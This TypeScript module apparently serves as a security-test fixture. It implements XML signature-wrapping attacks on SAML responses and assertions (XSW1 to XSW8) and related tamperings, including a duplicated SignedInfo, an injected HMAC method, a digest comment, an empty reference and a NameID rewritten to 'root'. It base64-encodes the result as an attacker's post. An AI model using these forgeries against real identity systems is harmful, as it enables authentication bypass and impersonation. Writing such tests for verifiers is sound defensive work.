import { DOMParser, XMLSerializer } from '@xmldom/xmldom'

/** A signed document and what an attacker makes of it, in the notation of "On Breaking SAML" (USENIX Security 2012). */
export type Attack = (document: Document) => void

const ds = 'http://www.w3.org/2000/09/xmldsig#'
const saml = 'urn:oasis:names:tc:SAML:2.0:assertion'
const samlp = 'urn:oasis:names:tc:SAML:2.0:protocol'

const one = (within: Document | Element, namespace: string, name: string) =>
  within.getElementsByTagNameNS(namespace, name)[0] as Element
const clone = (element: Element) => element.cloneNode(true) as Element

/** A copy that says it is of somebody else, under another identifier. */
function forged(element: Element, id = '_evil'): Element {
  const copy = clone(element)
  copy.setAttribute('ID', id)
  one(copy, saml, 'NameID').textContent = 'root'
  return copy
}

function withoutSignature(element: Element): Element {
  const copy = clone(element)
  const signature = [...Array(copy.childNodes.length).keys()]
    .map((i) => copy.childNodes[i] as ChildNode)
    .find((node) => node.nodeName.endsWith(':Signature'))
  if (signature) copy.removeChild(signature)
  return copy
}

/** The signature that stands directly in an element. */
function own(element: Element): Element {
  return one(element, ds, 'Signature')
}

/** Of a signed response. */
export const responseAttacks: Readonly<Record<string, Attack>> = {
  'XSW1, the original within the signature of a forged response': (document) => {
    const original = document.documentElement
    const evil = forged(original)
    own(evil).appendChild(withoutSignature(original))
    document.replaceChild(evil, original)
  },
  'XSW2, the original beside the signature of a forged response': (document) => {
    const original = document.documentElement
    const evil = forged(original)
    evil.insertBefore(withoutSignature(original), own(evil))
    document.replaceChild(evil, original)
  },
  'a forged assertion beside the original of a signed response, the response in an extension': (document) => {
    const original = document.documentElement
    const evil = withoutSignature(forged(original))
    const extensions = document.createElementNS(samlp, 'samlp:Extensions')
    extensions.appendChild(clone(original))
    evil.insertBefore(extensions, evil.firstChild)
    document.replaceChild(evil, original)
  },
}

/** Of a signed assertion. */
export const assertionAttacks: Readonly<Record<string, Attack>> = {
  'XSW3, a forged assertion before the original': (document) => {
    const original = one(document, saml, 'Assertion')
    original.parentNode?.insertBefore(withoutSignature(forged(original)), original)
  },
  'XSW4, the original within a forged assertion': (document) => {
    const original = one(document, saml, 'Assertion')
    const evil = withoutSignature(forged(original))
    original.parentNode?.replaceChild(evil, original)
    evil.appendChild(original)
  },
  'XSW5, a forged assertion with the signature, the original after it': (document) => {
    const original = one(document, saml, 'Assertion')
    const evil = forged(original)
    original.parentNode?.replaceChild(evil, original)
    evil.parentNode?.appendChild(withoutSignature(original))
  },
  'XSW6, the original within the signature of a forged assertion': (document) => {
    const original = one(document, saml, 'Assertion')
    const evil = forged(original)
    own(evil).appendChild(withoutSignature(original))
    original.parentNode?.replaceChild(evil, original)
  },
  'XSW7, a forged assertion in an extension with the same identifier': (document) => {
    const original = one(document, saml, 'Assertion')
    const extensions = document.createElementNS(samlp, 'samlp:Extensions')
    extensions.appendChild(withoutSignature(forged(original, original.getAttribute('ID') ?? '')))
    original.parentNode?.insertBefore(extensions, original)
  },
  'XSW8, the original in an object of the signature of a forged assertion': (document) => {
    const original = one(document, saml, 'Assertion')
    const evil = forged(original, original.getAttribute('ID') ?? '')
    const object = document.createElementNS(ds, 'ds:Object')
    object.appendChild(withoutSignature(original))
    own(evil).appendChild(object)
    original.parentNode?.replaceChild(evil, original)
  },
  'a second SignedInfo before the first': (document) => {
    const info = one(document, ds, 'SignedInfo')
    info.parentNode?.insertBefore(clone(info), info)
  },
  'a signature method hidden before SignedInfo': (document) => {
    const info = one(document, ds, 'SignedInfo')
    const method = document.createElementNS(ds, 'ds:SignatureMethod')
    method.setAttribute('Algorithm', 'http://www.w3.org/2000/09/xmldsig#hmac-sha1')
    info.parentNode?.insertBefore(method, info)
  },
  'a comment in the digest': (document) => {
    const digest = one(document, ds, 'DigestValue')
    digest.insertBefore(document.createComment(digest.textContent ?? ''), digest.firstChild)
    one(document, saml, 'NameID').textContent = 'root'
  },
  'the signature moved to the response': (document) => {
    const original = one(document, saml, 'Assertion')
    document.documentElement.appendChild(own(original))
    one(document, saml, 'NameID').textContent = 'root'
  },
  'an empty reference': (document) => one(document, ds, 'Reference').setAttribute('URI', ''),
  'another name for the subject': (document) => {
    one(document, saml, 'NameID').textContent = 'root'
  },
  'another attribute': (document) => {
    const original = one(document, saml, 'Assertion')
    original.appendChild(document.createElementNS(saml, 'saml:AttributeStatement'))
  },
}

/** What an attacker posts. */
export function attacked(xml: string, attack: Attack): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  attack(document)
  return Buffer.from(new XMLSerializer().serializeToString(document)).toString('base64')
}
